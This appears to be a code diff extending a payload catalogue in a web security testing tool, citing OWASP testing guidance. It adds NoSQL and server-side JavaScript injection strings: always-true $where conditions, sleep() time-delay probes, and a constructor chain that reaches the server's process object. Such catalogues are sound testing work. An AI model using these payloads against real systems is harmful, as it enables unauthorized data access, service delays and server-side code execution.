@@ -68,6 +68,8 @@ export const BENIGN: Record<ContextId, string> = {
   "nosql-document": '{"username": "alice"}',
   "nosql-value": '"alice"',
   "nosql-string": "alice",
+  "nosql-js-string": "alice",
+  "nosql-js-code": "1",
 };
 
 const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
@@ -253,6 +255,17 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
   "nosql-string": [
     { text: '{q}, "$where": {q}sleep(1000)', source: `${WSTG_NOSQL}: close the string, add a $where clause` },
     { text: '{q}, "$or": [{}], "x": {q}', source: `${WSTG_NOSQL}: close the string, add an $or that matches everything` },
+  ],
+  // JavaScript the server runs: the payload stays inside the JavaScript string the program built.
+  "nosql-js-string": [
+    { text: "{q} || {q}1{q}=={q}1", source: `${WSTG_NOSQL}: $where condition made always true, closed by the code's own quote` },
+    { text: "{q} || sleep(5000) || {q}", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
+    { text: "{q} || this.constructor.constructor({q}return process{q})() || {q}", source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
+  ],
+  "nosql-js-code": [
+    { text: "1 || true", source: `${WSTG_NOSQL}: $where condition made always true` },
+    { text: "1 || sleep(5000)", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
+    { text: 'this.constructor.constructor("return process")()', source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
   ],
 };
 
